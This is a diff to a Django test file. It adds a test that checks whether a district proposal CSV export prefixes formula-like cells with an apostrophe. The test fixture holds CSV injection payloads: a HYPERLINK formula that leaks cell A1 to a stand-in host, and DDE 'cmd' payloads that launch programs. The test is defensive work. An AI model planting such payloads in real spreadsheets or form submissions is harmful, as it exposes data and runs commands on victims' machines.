@@ -1,5 +1,8 @@
 """Community Managers read, export and follow up their districts' proposals; nobody else does."""
 
+import csv
+import io
+
 import pytest
 from django.urls import reverse
 from django.utils import translation
@@ -38,6 +41,53 @@ def test_the_districts_manager_reads_and_exports_the_submissions(client, sara, p
     assert proposal.form_data["name"] in csv
     with translation.override("it"):  # the admin speaks the user's (default) language
         assert str(Proposal.Status.RECEIVED.label) in csv
+
+
+HOSTILE_ANSWERS = {
+    "name": '=HYPERLINK("https://evil.example/?"&A1,"Aprimi")',
+    "email": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "phone": "+39 333 123 4567",
+    "proposal": "-2+3+cmd|' /C notepad'!A1 e poi un laboratorio di biciclette.",
+    "category": "\tLaboratori",
+    "language": "it",
+    "quando": "\r=1+1",
+}
+
+
+def downloaded_csv(client, form_page):
+    url = reverse("wagtailforms:list_submissions", args=[form_page.id])
+    response = client.get(url, {"export": "csv"})
+    assert response.status_code == 200
+    assert response["Content-Type"].startswith("text/csv")
+    content = b"".join(response.streaming_content) if response.streaming else response.content
+    return list(csv.reader(io.StringIO(content.decode(), newline="")))
+
+
+def test_the_csv_export_neutralises_spreadsheet_formulas(client, sara, form_page):
+    """OWASP's CSV injection: a cell a spreadsheet would run as a formula starts with an
+    apostrophe, in every column, the headings (extra questions' labels) included."""
+    from districts.models import ProposalFormField
+
+    ProposalFormField.objects.create(
+        page=form_page, label="=Quando?", field_type="singleline", required=False, locale=form_page.locale
+    )
+    ProposalFormField.objects.filter(page=form_page).update(clean_name="quando")
+    ProposalFactory(page=form_page, form_data=HOSTILE_ANSWERS)
+    harmless = ProposalFactory(page=form_page)
+    client.force_login(sara)
+
+    heading, *rows = downloaded_csv(client, form_page)
+    assert "'=Quando?" in heading
+    assert len(rows) == 2
+    cells = [cell for row in rows for cell in row]
+    for value in HOSTILE_ANSWERS.values():
+        if value[0] in "=+-@\t\r":
+            assert f"'{value}" in cells, value
+    assert "'+39 333 123 4567" in cells
+    assert not [cell for cell in heading + cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    # What needs no apostrophe is exported as it was written.
+    assert harmless.form_data["name"] in cells
+    assert harmless.form_data["proposal"] in cells
 
 
 def test_editors_and_other_managers_do_not_read_them(client, editor, imma, proposal, form_page):
